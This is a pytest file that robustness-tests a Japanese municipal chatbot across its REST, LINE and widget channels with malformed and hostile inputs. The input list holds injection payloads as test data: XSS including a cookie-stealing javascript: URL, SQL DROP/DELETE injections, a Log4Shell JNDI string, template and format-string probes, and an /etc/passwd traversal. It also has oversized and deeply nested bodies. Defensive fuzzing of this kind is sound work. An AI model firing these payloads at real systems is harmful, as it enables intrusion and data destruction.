"""Anything anyone can send: every input gets a 4xx or a polite answer, never a 5xx or a
traceback, and the bot answers normally right after. Sent through the real REST, LINE
and socket.io channels of a running bot (the trained model, the real tracker store)."""
from __future__ import annotations

import re
import uuid
from typing import Any, List

import pytest

from bot.build import model_is_current
from bot.channels.intake import APOLOGY, RATE_LIMITED
from tests.clients import line_event

pytestmark = pytest.mark.skipif(not model_is_current(),
                                reason="no current model: run `make test`, which trains it")

# What citizens (and others) type: each is sent as the message text on every channel.
TEXTS: List[str] = [
    "", " ", "\u3000\u3000", "\n\n\t", "\r\n",
    "あ" * 20000, "a" * 2001, "転入届" * 700, "転入届は" + " " * 1990 + "?",
    "😀", "😀" * 500, "👨‍👩‍👧‍👦 転入届は?", "🇯🇵🇯🇵", "か\u3099\u3099\u3099\u3099",
    "e\u0301" * 300, "Z̷̧̛a̶l̷g̸o̵ ̶t̴e̷x̶t̵", "\u200b" * 20, "\ufeff転入届", "\u2028\u2029",
    "\x00", "転入\x00届の期限", "\x1b[31m赤\x1b[0m", "\x7f\x08\x07", "\x00" * 500,
    "\ud800", "転入\udfff届", "\u202e届入転\u202c", "مرحبا، أريد نقل العنوان", "שלום עולם",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;太字&lt;/b&gt;",
    "javascript:alert(document.cookie)", "<a href='https://evil.example'>転入届</a>",
    "'; DROP TABLE events; --", "1' OR '1'='1", '" OR 1=1 --', "SELECT * FROM procedures;",
    "転入届'); DELETE FROM procedures; --", "%s%s%s%n", "{procedure}", "{{7*7}}",
    "${jndi:ldap://example.invalid/a}", "../../../../etc/passwd", "\\x00\\u0000",
    "/restart", "/session_start", "/back", "/nlu_fallback", "/greet", "/action_listen",
    "/", "//", "/ask_documents{{{", '/ask_deadline{"procedure":"tennyu"',
    '/ask_documents{"procedure":"<script>alert(1)</script>"}', '/ask_documents{"procedure":123}',
    '/ask_documents{"procedure":["tennyu","tenshutsu"]}', "/ask_documents{\"procedure\":null}",
    '/ask_documents{"procedure":"' + "x" * 1500 + '"}', '/no_such_intent{"a":1}',
    '/compute_deadline{"procedure":"tennyu","life_event":"hikkoshi"}', "/ask_online@0.9",
    "null", "true", "[]", "{}", "NaN", "1/0", "-1", "9" * 1999, "0" * 30,
    "Hello, can I move my address online?", "안녕하세요", "Привет", "你好，我要办理转入手续",
    "ﾃﾝﾆｭｳﾄﾄﾞｹﾊﾈｯﾄﾃﾞﾃﾞｷﾏｽｶ", "ＴＥＮＮＹＵ", "転入届\r\nは?", "？？？？", "!!!!!!!!!!",
    "ああああああああああああああああああああ", "転" * 2000, "。" * 1000, "w" * 300,
    "転入届は\tオンラインで\vできますか\f", "http://example.com/" + "a" * 500,
]

# Bodies that are not what the REST channel reads: each must get a 4xx with a reason.
BAD_BODIES: List[bytes] = [
    b"", b" ", b"null", b"[]", b"123", b'"text"', b"true", b"{}", b"<xml/>",
    b"sender=x&message=y", b'{"sender": "x", "message": "x"', b"\xff\xfe\x00",
    b'{"sender": "x", "message": "\xff\xfe"}', b'{"message": "\xe8\xbb"}',
    '{"message": "転入届"}'.encode(), b'{"sender": "x"}',
    b'{"sender": null, "message": "x"}', b'{"sender": 123, "message": "x"}',
    b'{"sender": ["a"], "message": "x"}', b'{"sender": {"a": 1}, "message": "x"}',
    b'{"sender": "", "message": "x"}', b'{"sender": "   ", "message": "x"}',
    b'{"sender": "a\\nb", "message": "x"}', b'{"sender": "a\\u0000b", "message": "x"}',
    b'{"sender": "' + b"x" * 129 + b'", "message": "x"}',
    b'{"sender": "' + b"x" * 100_000 + b'", "message": "x"}',
    b'{"sender": "x", "message": 123}', b'{"sender": "x", "message": null}',
    b'{"sender": "x", "message": ["a"]}', b'{"sender": "x", "message": {"text": "x"}}',
    b'{"sender": "x", "message": NaN}', b'{"sender": "x", "message": 1e999999}',
    b'{"sender": "x", "message": true}', b"[" * 100_000 + b"]" * 100_000,
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    b'{"sender": "x", "message": "' + b"a" * 300_000 + b'"}',
    b"x" * 2_000_000,
]

# Widget events of the wrong shape: ignored when there is no session to answer to.
BAD_WIDGET_EVENTS: List[Any] = [
    None, 123, "転入届", ["転入届"], {}, {"message": "転入届"},
    {"session_id": 123, "message": "転入届"}, {"session_id": "x" * 1000, "message": "転入届"},
    {"session_id": "", "message": "転入届"}, {"session_id": "a\nb", "message": "転入届"},
]
# With a session but no usable text: a polite request for text.
BAD_WIDGET_MESSAGES: List[Any] = [None, 123, ["転入届"], {"text": "転入届"}, True]

# LINE webhooks with a valid signature but not the shape LINE sends.
BAD_LINE_BODIES: List[bytes] = [
    b"", b"null", b"[]", b"{}", b'{"events": null}', b'{"events": {}}', b'{"events": "x"}',
    b"\xff\xfe", b'{"events": [', b"[" * 100_000 + b"]" * 100_000,
]
BAD_LINE_EVENTS: List[Any] = [
    None, 1, "x", [], {}, {"type": "message"}, {"type": "message", "source": None},
    {"type": "message", "source": {"type": "user"}},
    {"type": "message", "source": {"type": "user", "userId": "U1"}, "message": None},
    {"type": "message", "source": {"type": "user", "userId": "U1"}, "message": "転入届"},
    {"type": "message", "source": {"type": "user", "userId": "U1"},
     "message": {"type": "text", "text": 123}},
    {"type": "postback", "source": {"type": "user", "userId": "U1"}, "postback": None},
    {"type": "postback", "source": {"type": "user", "userId": "U1"}, "postback": {"data": 5}},
    {"type": "beacon", "source": {"type": "user", "userId": "U1"}},
    {"type": "message", "source": {"type": "user", "userId": ["U1"]},
     "message": {"type": "text", "text": "転入届"}},
]

TRACEBACK = re.compile(r"Traceback|Exception|Error:|File \"|\.py\b", re.IGNORECASE)


def polite(messages: Any) -> bool:
    """A non-empty list of replies in Japanese, none of them a technical error, and not
    the apology either (the bot is healthy, so every input must be handled)."""
    texts = [m.get("text", "") for m in messages if isinstance(m, dict)] if isinstance(
        messages, list) else []
    return bool(texts) and APOLOGY not in texts and all(
        not TRACEBACK.search(t) for t in texts) and any(
        re.search(r"[ぁ-んァ-ン一-龥]", t) for t in texts)


def answers_normally(bot) -> None:
    status, reply = bot.rest.say(f"after-{uuid.uuid4().hex[:8]}", "転入届の必要なものは?")
    assert status == 200 and reply[0]["text"].startswith("【転入届】\n■必要なもの")


def test_rest_texts_get_a_polite_answer(public_bot):
    problems = []
    for text in TEXTS:
        status, reply = public_bot.rest.say(f"bad-{uuid.uuid4().hex[:8]}", text)
        if status != 200 or not polite(reply):
            problems.append((text[:40], status, reply))
    assert problems == []
    answers_normally(public_bot)


def test_rest_bodies_of_the_wrong_shape_get_a_4xx_with_a_reason(public_bot):
    problems = []
    for body in BAD_BODIES:
        status, reply = public_bot.rest.raw(body)
        if not 400 <= status < 500:
            problems.append((body[:40], status, reply))
    assert problems == []
    answers_normally(public_bot)


def test_a_burst_from_one_sender_is_limited_politely(public_bot):
    sender = f"burst-{uuid.uuid4().hex[:8]}"
    results = [public_bot.rest.say(sender, "転入届の期限は?") for _ in range(BURST)]
    statuses = [status for status, _ in results]
    assert statuses[:10] == [200] * 10
    assert statuses.count(429) >= 10 and set(statuses) == {200, 429}
    limited = next(reply for status, reply in results if status == 429)
    assert [m["text"] for m in limited] == [RATE_LIMITED]
    answers_normally(public_bot)


def test_widget_texts_get_a_polite_answer(public_bot):
    client = public_bot.widget()
    try:
        problems = []
        for text in TEXTS:
            session = client.join(f"bad-{uuid.uuid4().hex[:12]}")
            reply = client.ask({"session_id": session, "message": text})
            if not polite(reply):
                problems.append((text[:40], reply))
        assert problems == []
        assert client.connected
    finally:
        client.close()


def test_widget_events_of_the_wrong_shape_are_ignored_or_answered_politely(public_bot):
    client = public_bot.widget()
    try:
        for data in BAD_WIDGET_EVENTS:
            assert client.ask(data, wait=1.0) == []
        session = client.join(f"shape-{uuid.uuid4().hex[:12]}")
        for message in BAD_WIDGET_MESSAGES:
            assert polite(client.ask({"session_id": session, "message": message})), message
        reply = client.ask({"session_id": session, "message": "転入届の必要なものは?"})
        assert reply[0]["text"].startswith("【転入届】\n■必要なもの")
        assert client.connected
    finally:
        client.close()


def test_line_texts_get_a_polite_answer(public_bot):
    events = [line_event(text=text) for text in TEXTS]
    for event in events:
        assert public_bot.line.send(event)[0] == 200
    problems = []
    for event in events:
        replies = public_bot.standin.received(
            lambda r, token=event["replyToken"]: r["body"].get("replyToken") == token)
        messages = replies[0]["body"]["messages"] if replies else []
        if not polite([m for m in messages if m["type"] == "text"]):
            problems.append((event["message"]["text"][:40], messages))
    assert problems == []


def test_line_bodies_and_events_of_the_wrong_shape_get_4xx_or_are_ignored(public_bot):
    for body in BAD_LINE_BODIES:
        assert public_bot.line.signed(body)[0] == 400, body[:40]
    before = len(public_bot.standin.requests)
    for event in BAD_LINE_EVENTS:
        status, _ = public_bot.line.send(event)
        assert status == 200, event
    good = line_event(text="転入届の必要なものは?")
    assert public_bot.line.send(good)[0] == 200
    reply = public_bot.standin.received(
        lambda r: r["body"].get("replyToken") == good["replyToken"])
    assert reply[0]["body"]["messages"][0]["text"].startswith("【転入届】\n■必要なもの")
    # The malformed events with a user got at most a polite request for text.
    for request in public_bot.standin.requests[before:]:
        for message in request["body"]["messages"]:
            assert message["type"] != "text" or not TRACEBACK.search(message["text"])


def test_no_channel_logged_an_error(public_bot):
    rasa_log = (public_bot.state / "logs" / "rasa.log").read_text("utf-8", "replace")
    assert [line for line in rasa_log.splitlines()
            if "bot.channels" in line and ("ERROR" in line or "Traceback" in line)] == []


BURST = 25
INPUTS_TRIED = (3 * len(TEXTS) + len(BAD_BODIES) + BURST + len(BAD_WIDGET_EVENTS)
                + len(BAD_WIDGET_MESSAGES) + len(BAD_LINE_BODIES) + len(BAD_LINE_EVENTS))


def test_the_matrix_tries_at_least_200_inputs():
    assert INPUTS_TRIED >= 200
